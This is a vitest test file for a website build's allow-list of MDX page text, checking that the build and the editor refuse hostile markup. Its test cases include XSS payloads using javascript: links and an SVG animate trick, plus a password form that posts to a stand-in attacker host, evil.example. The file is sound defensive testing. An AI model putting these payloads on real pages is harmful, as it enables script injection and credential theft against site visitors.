/**
 * Page text on an allow-list (src/schemas/page-text/allow-list.ts): each hostile case of tests/support/hostile-page-text.ts
 * is refused by the build's checks or its MDX compile, with the file and line, or renders as harmless text (its HTML is
 * read in tests/project/page-text-build.test.ts). Run in-process through the build's own pipeline, not one build per case.
 */
import { describe, expect, test } from 'vitest';
import { hostileCases } from '../support/hostile-page-text.ts';
import { caseFile, compiledAlone, throughTheBuild } from '../support/page-text-pipeline.ts';
import { pageTextProblems } from '../../src/schemas/page-text/index.ts';
import { parseInBrowser } from '../../src/schemas/page-text/browser-parser.ts';
import { renderedProblems } from '../../src/schemas/page-text/allow-list.ts';

describe('hostile page text', () => {
  test('at least 111 cases in every class the review tried', () => {
    expect(hostileCases.length).toBeGreaterThanOrEqual(111);
    expect(new Set(hostileCases.map(({ kind }) => kind)).size).toBeGreaterThanOrEqual(15);
  });

  test.each(hostileCases.map((hostile, index) => ({ ...hostile, index, label: hostile.text.replace(/\n/g, '⏎').slice(0, 70) })))(
    '$kind: $label',
    async ({ text, inert, index }) => {
      const result = await throughTheBuild(text, caseFile(index));
      if (inert) {
        expect(result, 'renders as harmless text').toHaveProperty('compiled');
        return;
      }
      expect(result, 'refused by the build').toHaveProperty('messages');
      const { messages } = result as { messages: string[] };
      // Each message names the file and the line and column, then says what to do.
      for (const message of messages) expect(message).toMatch(new RegExp(`(^|\\n) *${caseFile(index).replace(/[.]/g, '\\.')}:\\d+:\\d+ \\S`));
    },
  );
});

describe('the second line: the HTML tree of the page', () => {
  test.each([
    ['<plaintext />', '<plaintext>'],
    ['<svg><a><animate attributeName="href" values="#top;javascript:alert(1)" /></a></svg>', '<svg>'],
    ['<form action="https://evil.example"><input type="password" /></form>', '<form>'],
    ['<dialog open>x</dialog>', '<dialog>'],
    ['<a href="/contact" target="_blank">x</a>', '<a target="_blank">'],
    ['<a href="javascript:alert(1)">x</a>', '<a href="javascript:alert(1)">'],
    ['- [ ] a tick box', '<input>'],
    ['{alert(1)}', '{alert(1)}'],
  ])('stops the compile of %s on its own, naming file and line', async (text, what) => {
    const name = 'content/legal/second-line.mdx';
    await expect(compiledAlone(text, name)).rejects.toThrow(
      new RegExp(`${name.replace('.', '\\.')}:1:\\d+ the page text would put ${what.replace(/[{}()[\]]/g, '\\$&')} on the page`),
    );
  });

  test('lets through what Markdown makes: links, footnotes, tables, code, images', async () => {
    const text =
      '## Heading\n\nA [link](/contact "Contact"), **bold**, *em*, ~~del~~, `code`, line  \nbreak[^1].\n\n> quote\n\n1. one\n2. two\n\n---\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\n```js\nx\n```\n\n![Logo](../uploads/example-engineering-works-logo.png)\n\n[^1]: A note.\n';
    await expect(compiledAlone(text, 'content/legal/markdown.mdx')).resolves.toContain('MDXContent');
  });

  test('lists each rendered attribute with the values it may take', () => {
    expect(renderedProblems('a', { href: '/contact', title: 'Contact' })).toEqual([]);
    expect(renderedProblems('a', { href: ' JAVA\tSCRIPT:alert(1)' })).toHaveLength(1);
    expect(renderedProblems('th', { style: 'text-align: left' })).toEqual(['<th style="text-align: left">']);
    expect(renderedProblems('code', { className: ['language-js'] })).toEqual([]);
    expect(renderedProblems('code', { className: ['hero'] })).toHaveLength(1);
    expect(renderedProblems('input', { type: 'checkbox' })).toEqual(['<input>']);
  });
});

describe('the editor refuses the same page text', () => {
  test.each([
    '<svg><a><animate attributeName="href" values="#top;javascript:alert(1)" /></a></svg>',
    '<plaintext />',
    '<form action="https://evil.example"><input type="password" /></form>',
    '<dialog open>x</dialog>',
    '<a href="/contact" target="_blank">x</a>',
    '<Foo />',
  ])('%s', (text) => {
    expect(pageTextProblems(text, parseInBrowser).length).toBeGreaterThan(0);
  });
});
